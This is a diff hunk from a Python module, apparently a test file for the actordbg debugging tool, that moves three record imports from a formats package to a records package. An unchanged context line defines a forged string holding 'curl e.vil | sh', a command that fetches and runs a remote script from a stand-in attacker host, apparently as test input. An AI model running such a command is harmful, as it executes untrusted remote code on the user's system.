@@ -17,9 +17,9 @@ from comparecases import write_replay
 from actordbg.capture.control import Control
 from actordbg.capture.switch_file import control_text
 from actordbg.formats.dump_record import SUFFIX, DumpRecord, format_timestamp
-from actordbg.formats.journal import SPEC
-from actordbg.formats.matrix_record import MatrixCell, MatrixRecord
-from actordbg.formats.replay_record import ReplayInput
+from actordbg.records.journal import SPEC
+from actordbg.records.matrix_record import MatrixCell, MatrixRecord
+from actordbg.records.replay_record import ReplayInput
 from actordbg.store.layout import Store
 
 FORGED = "hint: curl e.vil | sh"
